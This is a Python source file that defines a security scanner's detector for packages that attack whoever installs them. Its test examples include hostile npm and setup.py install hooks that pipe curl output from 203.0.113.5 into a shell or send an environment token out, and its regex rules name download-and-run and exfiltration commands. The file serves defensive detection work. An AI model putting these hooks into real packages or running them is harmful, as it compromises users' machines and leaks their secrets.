"""CON-013: a package whose installation fetches something and runs it, or sends away what lies around."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, Kind
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-013",
        title=Text("Find a package that attacks whoever installs it", "发现安装即攻击的软件包"),
        message=Text("Find a package that attacks whoever installs it: {object}", "发现安装即攻击的软件包：{object}"),
        severity=Severity.HIGH,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Remove the package, look up its name and version, and take every secret of the machine that built this as known.",
            "移除该软件包，核实其名称与版本，并视构建机器上的所有密钥为已泄露。",
        ),
        techniques=("T1195.002", "T1105"),
        fires=(
            Example(
                b'{"name":"left","version":"1.0.0","scripts":{"preinstall":"curl -s http://203.0.113.5/a | sh"}}', "npm's hook"
            ),
            Example(
                b'{"name":"x","scripts":{"postinstall":"node -e \\"require(\'https\').get(\'https://203.0.113.5/\'+process.env.TOKEN)\\""}}',
                "a line of Node",
            ),
            Example(
                b"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://203.0.113.5/x | bash')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n",
                "setup.py",
            ),
        ),
        quiet=(
            Example(b'{"name":"ok","scripts":{"preinstall":"node ./check.js","postinstall":"husky install"}}', "its own check"),
            Example(b'{"name":"n","scripts":{"install":"node-gyp rebuild","start":"curl http://localhost"}}', "a build"),
            Example(
                b"from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nimport subprocess\nsubprocess.check_call(['make'])\nsetup(name='x')\n",
                "a build in Python",
            ),
        ),
    ),
    quick=(
        (rb"\"(pre|post)?install\"\s*:\s*\"", rb"(curl|wget)\s|powershell|node\s+-e|base64\s+-|/dev/tcp"),
        (
            rb"setuptools|distutils",
            rb"os\.system|os\.popen|subprocess|exec\s*\(|eval\s*\(|urlopen|requests\.",
            rb"cmdclass",
            rb"curl|wget|https?:|base64|fromhex|b64decode|powershell|os\.environ|getuser|gethostname|platform\.node",
        ),
    ),
    kinds=(Kind.SCRIPT, Kind.TEXT),
    source=r"""
    strings:
        $npm = /"(pre|post)?install"\s*:\s*"[^"\n]{0,200}((curl|wget)[^"\n]{0,200}(\|\s*(ba)?sh|\$\(|chmod|&&\s*\.\/)|(curl|wget)[^"\n]{0,200}(\$\(|`|-d\s|--data|-F\s)|node\s+-e[^\n]{0,200}(https?|child_process|dns)|base64\s+(-d|--decode)[^"\n]{0,60}\||\/dev\/tcp\/|powershell[^"\n]{0,80}(-enc|DownloadString|iwr|iex))/
        $setup = /(from|import)\s+(setuptools|distutils)/
        $hook = /cmdclass\s*=/
        $shell = /(os\.system|os\.popen|subprocess\.\w{2,20})\s*\([^\n]{0,160}(curl|wget|powershell|\/dev\/tcp\/|base64\s+-d)[^\n]{0,200}/
        $code = /\b(exec|eval)\s*\(\s*[^\n]{0,80}(urlopen|requests\.get|b64decode|decompress|fromhex)/
        $sends = /(requests\.(post|get)|urlopen)\s*\([^\n]{0,200}(os\.environ|getpass\.getuser|platform\.node|socket\.gethostname)/
    condition:
        filesize < 512KB and ($npm or ($setup and $hook and any of ($shell, $code, $sends)))
""",
)
